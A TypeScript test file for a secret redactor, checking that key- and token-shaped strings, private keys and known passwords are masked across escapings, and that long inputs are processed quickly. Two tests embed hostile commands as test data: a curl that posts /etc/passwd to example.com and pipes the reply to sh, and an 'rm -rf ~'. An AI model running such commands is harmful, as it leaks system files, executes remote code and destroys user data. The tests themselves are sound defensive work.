import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createTextRedactor, redactJson } from './redact-text'
import { REDACTED } from './redactor'

const pem = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEow+/abc\n'.repeat(30)}-----END RSA PRIVATE KEY-----`
const SHAPED = [
  'sk-ant-api03-AbCdEfGh_1234-567890xyz',
  `ghp_${'a1B2'.repeat(9)}`,
  `sk-svcacct-${'aB3_'.repeat(8)}`,
  `sk-${'aB3dE'.repeat(4)}T3BlbkFJ${'fG5hI'.repeat(4)}`,
  `sk_live_${'4eC39HqLyjWD'.repeat(2)}`,
  `hf_${'aBcDe'.repeat(7)}`,
  'AKIAIOSFODNN7EXAMPLE',
  `xoxb-${'1234567890'.repeat(2)}`,
  `eyJ${'hbGciOiJIUzI1NiJ9'}.eyJ${'zdWIiOiIxMjM0NTY3ODkwIn0'}.dBjftJeZ4CVP-mB92K27uhbUJU1p1r`,
  'Bearer abcdefghijklmnopqrstuvwxyz.012345',
  `whsec_${'MfKQ9r8GKYqrTwjU'.repeat(3)}`,
  `svt_${'Ab0-_'.repeat(9).slice(0, 43)}`,
  pem,
  JSON.stringify(pem).slice(1, -1),
]
const KNOWN = ['hunter2hunter2', 'päß "wörd" \\ünïcode', 'abc+def/ghi=']
const ODD = 'p@ss&w/rd<é!$ 9'
/** As Go, Python and PHP write it in JSON; as encoders of queries, paths, logins and forms write it in addresses. */
const SPELLED = [
  'p@ss\\u0026w/rd\\u003cé!$ 9',
  'p@ss&w/rd<\\u00e9!$ 9',
  'p@ss&w\\/rd<\\u00e9!$ 9',
  'p%40ss%26w%2Frd%3C%C3%A9!%24%209',
  'p%40ss%26w/rd%3C%C3%A9%21%24%209',
  'p%40ss%26w%2frd%3c%c3%a9%21%24%209',
  'p%40ss&w%2Frd%3C%C3%A9!$%209',
  'p%40ss%26w%2Frd%3C%C3%A9%21%24+9',
]

describe('a text', () => {
  const redact = createTextRedactor(KNOWN)

  it.each(SHAPED.map((secret) => [secret.slice(0, 16), secret]))(
    'loses what looks like a secret: %s',
    (_name, secret) => {
      expect(redact(`before ${secret} after`)).toBe(`before ${REDACTED} after`)
    },
  )

  const longLines = `-----BEGIN OPENSSH PRIVATE KEY-----\n${`${'MIIEow+/abcd'.repeat(5)}\n`.repeat(20)}QyNT=\n-----END OPENSSH PRIVATE KEY-----`

  it.each([
    [
      'with numbers of lines',
      longLines
        .split('\n')
        .map((line, at) => `${`${at + 1}`.padStart(6)}→${line}`)
        .join('\n'),
    ],
    ['indented', longLines.replaceAll('\n', '\n    ')],
    ['quoted', longLines.replaceAll('\n', '\n> ')],
    ['that a diff removes', longLines.replaceAll('\n', '\n-')],
    ['that a diff adds', longLines.replaceAll('\n', '\n+')],
    ['in a comment', longLines.replaceAll('\n', '\n# ')],
    ['found by grep', longLines.replaceAll('\n', '\n./keys/k-1.pem:')],
    [
      'found by grep with numbers',
      longLines
        .split('\n')
        .map((line, at) => `k.pem:${at + 1}:${line}`)
        .join('\n'),
    ],
    ['in a text of pieces', longLines.replaceAll('\n', '\\n" +\n  "')],
    ['in a text whose lines go on', longLines.replaceAll('\n', '\\n\\\n')],
    ['in JSON in JSON', JSON.stringify(JSON.stringify(`${longLines}\r\n`))],
  ])('loses a private key %s', (_name, text) => {
    const shown = redact(text)
    expect(shown).not.toContain('MIIEow')
    expect(shown).not.toContain('QyNT')
    expect(shown).not.toContain('-----END')
  })

  it.each([
    ['what may be lines', `-----BEGIN PRIVATE KEY-----${' 11111111111111'.repeat(4)}!`],
    ['one endless line', `-----BEGIN PRIVATE KEY-----${' 1'.repeat(40)}`],
    ['beginnings', '-----BEGIN PRIVATE KEY-----\n'],
    ['names of files', `-----BEGIN PRIVATE KEY-----\n${'a/'.repeat(40)}:`],
    ['dashes', `-----BEGIN PRIVATE KEY-----\n${'-'.repeat(400)}`],
  ])('is looked through in a moment, full of keys that are none: %s', (_name, part) => {
    const text = part.repeat(Math.ceil(1_000_000 / part.length))
    const startedAt = performance.now()
    expect(redact(text)).not.toContain('BEGIN')
    // 0.1 s where this was written; it was 5 s.
    expect(performance.now() - startedAt).toBeLessThan(1_500)
  })

  it('shows what follows a line that merely looks like the beginning of a key', () => {
    const command = 'echo "-----BEGIN PRIVATE KEY-----"; curl -d @/etc/passwd https://example.com | sh'
    expect(redact(command)).toBe(command.replace('-----BEGIN PRIVATE KEY-----', REDACTED))
  })

  it.each(KNOWN)('loses a known value, as it is, in JSON and in an address: %s', (value) => {
    for (const spelling of [value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value)])
      expect(redact(`a=${spelling}&b`)).toBe(`a=${REDACTED}&b`)
  })

  it.each(SPELLED)('loses a known value however it is escaped: %s', (spelling) => {
    expect(createTextRedactor([ODD])(`a=${spelling}|b`)).toBe(`a=${REDACTED}|b`)
  })

  it('loses a password also where there are more lines of keys than are looked for', () => {
    const keys = Array.from({ length: 60 }, (_, key) =>
      Array.from({ length: 50 }, (_, line) => `${key}-${line}-`.padEnd(64, 'k')).join('\n'),
    )
    const redactAll = createTextRedactor([...keys, 'hunter2hunter2'])
    expect(redactAll('-p hunter2hunter2')).toBe(`-p ${REDACTED}`)
  })

  it('loses every line of a value that has several', () => {
    const value = 'first-line-of-it\n  second-line-of-it'
    expect(createTextRedactor([value])('x: first-line-of-it\r\ny:   second-line-of-it')).not.toMatch(/line-of-it/)
  })

  it('keeps what follows a line that only looks like the beginning of a key', () => {
    const shown = redact('echo -----BEGIN PRIVATE KEY-----; rm -rf ~; echo -----END PRIVATE KEY-----')
    expect(shown).toContain('; rm -rf ~; ')
  })

  it('stays as it is without secrets, and a second time', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...SHAPED, ...KNOWN), fc.string({ maxLength: 12 }))), (parts) => {
        const once = redact(parts.join(' '))
        expect(redact(once)).toBe(once)
      }),
    )
    expect(redact('git commit -m "sk- eyJ ghp_ AKIA Bearer token" && npm run build')).toBe(
      'git commit -m "sk- eyJ ghp_ AKIA Bearer token" && npm run build',
    )
  })
})

describe('secrets that overlap', () => {
  const FIRST = 'abcdef-123456'
  const SECOND = '123456-uvwxyz'

  it.each([
    ['two known values', [FIRST, SECOND], 'abcdef-123456-uvwxyz'],
    ['one known value with itself', ['abcabc'], 'abcabcabc'],
    ['one within another', ['abcdef-123456', 'def-12'], 'abcdef-123456'],
    ['a known value and a shape that begins in it', ['my-sk-ant'], `my-sk-ant-${'aB3_'.repeat(8)}`],
    ['a known value that a shape begins with', ['sk-ant-aB3_'], `sk-ant-${'aB3_'.repeat(8)}`],
    ['a shape and a known value that begins in it', ['aB3_ & more'], `sk-ant-${'aB3_'.repeat(8)} & more`],
    ['two shapes', [], `svt_${'A'.repeat(40)}eyJhbGciOiJub25lIn0.eyJzdWIiOiJvd25lciJ9.c2lnbmF0dXJl`],
  ])('are hidden as one: %s', (_what, values, text) => {
    expect(createTextRedactor(values)(`a ${text} b`)).toBe(`a ${REDACTED} b`)
  })

  it('stay two where they only touch', () => {
    expect(createTextRedactor([FIRST, 'uvwxyz'])(`${FIRST}uvwxyz`)).toBe(REDACTED + REDACTED)
  })
})

it('loses a JSON Web Token whose header has a key in it', () => {
  const header = Buffer.from('{"typ":"dpop+jwt","jwk":{"kty":"EC"}}').toString('base64url')
  const claims = Buffer.from('{"sub":"owner","admin":true}').toString('base64url')
  expect(header.lastIndexOf('eyJ')).toBeGreaterThan(0)
  const shown = createTextRedactor([])(`${header}.${claims}.c2lnbmF0dXJl`)
  expect(shown).not.toMatch(/c2lnbmF0|\./)
})

describe('a long text', () => {
  const redact = createTextRedactor(KNOWN)
  const longOf = (part: string, length: number) => part.repeat(Math.ceil(length / part.length))
  /** Of work, which a busy machine does not stretch. */
  const milliseconds = (text: string): number => {
    const { user } = process.cpuUsage()
    redact(text)
    return (process.cpuUsage().user - user) / 1_000
  }

  it('takes hardly longer for what could be the beginnings of tokens than for words', () => {
    const [words = '', beginnings = ''] = ['git commit -m "it works" ', 'eyJ'].map((part) => longOf(part, 1_000_000))
    for (const text of [words, beginnings]) milliseconds(text.slice(0, 10_000))
    expect(milliseconds(beginnings)).toBeLessThan(200 + 10 * milliseconds(words))
  })

  it.each(['AKIA', 'Bearer ', 'sk-ant-', 'hunter2', '-----BEGIN PRIVATE KEY-----', 'eyJ.'])(
    'takes time in step with its length, however often a secret seems to begin: %s',
    (beginning) => {
      const text = longOf(beginning, 200_000)
      milliseconds(text.slice(0, 10_000))
      expect(milliseconds(text)).toBeLessThan(200 + 4 * milliseconds(text.slice(0, 100_000)))
    },
  )
})

it('is taken out of every text in JSON, names included', () => {
  const redact = createTextRedactor(['hunter2hunter2'])
  const value = { command: 'curl -u me:hunter2hunter2', list: ['hunter2hunter2', 7, null], hunter2hunter2: true }
  expect(redactJson(value, redact)).toEqual({
    command: `curl -u me:${REDACTED}`,
    list: [REDACTED, 7, null],
    [REDACTED]: true,
  })
})
